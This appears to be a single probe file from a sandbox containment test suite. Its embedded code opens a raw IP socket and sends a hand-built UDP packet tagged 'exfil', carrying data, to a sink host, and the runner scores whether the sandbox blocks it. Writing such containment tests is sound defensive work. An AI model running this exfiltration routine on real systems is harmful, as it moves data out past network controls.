from ._net import sink_decides as score  # score: the runner reads it

ID = "net.raw-socket"
CATEGORY = "network"
DESCRIPTION = "open a raw IP socket and hand-build a UDP packet carrying the data to the sink"
CLAIMS = ("rule:network (namespace)",)
CODE = """
import struct
payload = ("exfil " + DATA).encode()
udp = struct.pack("!HHHH", 40000, SINK_PORT, 8 + len(payload), 0) + payload  # checksum 0: none
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
except OSError as e:
    out("DENIED", f"socket(AF_INET, SOCK_RAW): {ename(e)}")
else:
    try:
        s.sendto(udp, (SINK_HOST, 0))
        out("SENT", "a raw socket was opened and the packet handed to it")
    except OSError as e:
        out("DENIED", f"raw sendto {SINK_HOST}: {ename(e)}")
    finally:
        s.close()
"""
CONTROL = "host"
CONTAINED = "no raw socket (no CAP_NET_RAW) or no route: the sink receives nothing"
